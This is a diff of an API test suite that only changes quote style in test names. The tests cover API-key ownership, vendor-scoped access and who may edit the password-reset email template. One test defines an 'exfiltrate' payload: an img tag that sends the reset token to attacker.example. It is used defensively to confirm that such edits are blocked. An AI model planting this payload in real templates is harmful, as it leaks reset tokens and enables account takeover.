@@ -121,7 +121,7 @@ describe('API keys do not outlive their owner', () => {
     expect(listed.body.data).toMatchObject({ status: 'revoked', revokedAt: expect.any(String) });
   });
 
-  it('a key minted by a key belongs to that key\'s owner', async () => {
+  it("a key minted by a key belongs to that key's owner", async () => {
     const { owner, key } = await ownerWithKey();
     const own = await api('/api/settings/api-keys', { method: 'POST', key: owner.token, json: { name: 'minter', permissions: ['products:read', 'api-keys:write'] } });
     const child = await api('/api/settings/api-keys', { method: 'POST', key: own.body.data.key, json: { name: 'child', permissions: ['products:read'] } });
@@ -141,7 +141,7 @@ describe('a key of the vendor role is a vendor', () => {
     expectError(await api('/api/settings/api-keys', { method: 'POST', key: admin, json: { name: 'v', role: 'admin', vendorId: 'vend_NOPE' } }), 422, 'VALIDATION_ERROR');
   });
 
-  it('reaches only its own vendor\'s products and orders', async () => {
+  it("reaches only its own vendor's products and orders", async () => {
     const [mine, theirs] = [await insertVendor(), await insertVendor()];
     const ownProduct = await createProduct(admin, { vendorId: mine.id });
     const otherProduct = await createProduct(admin, { vendorId: theirs.id });
@@ -162,7 +162,7 @@ describe('a key of the vendor role is a vendor', () => {
 });
 
 describe('notifications:write cannot redirect reset links', () => {
-  it("only a caller holding * changes the password-reset template, whose links open any account", async () => {
+  it('only a caller holding * changes the password-reset template, whose links open any account', async () => {
     const { key } = await createApiKey(db(), { name: 'messages', permissions: ['notifications:*'] });
     const path = '/api/notifications/templates/tmpl_password_reset_email';
     const exfiltrate = { bodyHtml: '<img src="https://attacker.example/?t={{token}}">' };
